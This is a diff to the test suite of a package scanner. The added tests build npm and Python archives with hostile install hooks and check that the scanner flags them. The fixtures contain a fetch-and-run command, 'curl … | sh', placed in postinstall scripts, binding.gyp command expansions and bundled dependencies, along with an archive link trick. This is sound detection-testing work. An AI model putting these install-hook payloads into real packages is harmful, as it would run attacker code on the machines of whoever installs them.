@@ -1,8 +1,10 @@
 """Ways round yett check that once worked, and hostile targets. Run by tests/check/run."""
 import http.server
+import io
 import json
 import os
 import pickle
+import tarfile
 import threading
 import time
 import unittest
@@ -42,6 +44,39 @@ class Packages(unittest.TestCase):
             "demo-1.0/setup.py": b"from setuptools import setup\nsetup(data_files=[('', ['src/x.pth'])])\n",
             "demo-1.0/src/x.pth": world.PTH.encode()})
         self.assertIn("startup-exec", rules(report(target, code=2)))
+
+    def test_what_npm_runs_unasked(self):
+        """npm builds what has a binding.gyp, and runs the scripts of what is bundled."""
+        steal = "curl -s http://198.51.100.7/x | sh"
+        plain, hook = {"name": "x", "version": "1.0.0"}, {"scripts": {"postinstall": steal}}
+        for files, extra in (({"binding.gyp": "{'targets':[{'target_name':'<!(%s)'}]}" % steal}, {}),
+                             ({"binding.gyp": "{'actions':[{'action':['sh','-c','%s']}]}" % steal}, {}),
+                             ({"binding.gyp": "{'includes':['x.gypi']}", "x.gypi": "{'x':'<!@(%s)'}" % steal}, {}),
+                             ({"node_modules/@s/d/package.json": json.dumps({**plain, **hook})}, {})):
+            files = {"package/" + k: v.encode() for k, v in files.items()}
+            files["package/package.json"] = json.dumps({**plain, **extra}).encode()
+            got = rules(report(world.tar(fresh("npm-unasked") / "x-1.0.0.tgz", files), code=2))
+            self.assertTrue({"install-script", "fetch-and-run"} <= got, (files, got))
+        for extra, seen in (({}, True), ({"gypfile": False}, False), ({"scripts": {"install": "true"}}, True)):
+            files = {"package/package.json": json.dumps({**plain, **extra}).encode(),
+                     "package/binding.gyp": b"{'targets':[{'include_dirs':['<!(node -p \"require(\'nan\')\")']}]}"}
+            r = report(world.tar(fresh("npm-unasked") / "x-1.0.0.tgz", files), code=0)
+            self.assertEqual("install-script" in rules(r), seen, (extra, r["findings"]))
+
+    def test_link_in_a_source_archive(self):
+        target = fresh("sdist-link") / "demo-1.0.tar.gz"
+        for kind in (tarfile.LNKTYPE, tarfile.SYMTYPE):
+            for name, to, status in (("setup.py", "logo.png", 1), ("b.py", "a.py", 0), ("logo2.png", "logo.png", 0)):
+                with tarfile.open(target, "w:gz") as t:
+                    for p, d in {"PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n", "logo.png": FETCH,
+                                 "a.py": b"x = 1\n"}.items():
+                        m = tarfile.TarInfo("demo-1.0/" + p)
+                        m.size = len(d)
+                        t.addfile(m, io.BytesIO(d))
+                    m = tarfile.TarInfo("demo-1.0/" + name)
+                    m.type, m.linkname = kind, to if kind == tarfile.SYMTYPE else "demo-1.0/" + to
+                    t.addfile(m)
+                self.assertEqual("package-layout" in rules(report(target, code=status)), status == 1, (kind, name))
 
     def test_wheel_behind_something(self):
         wheel = self.wheel("prefix", {"demo/__init__.py": FETCH})
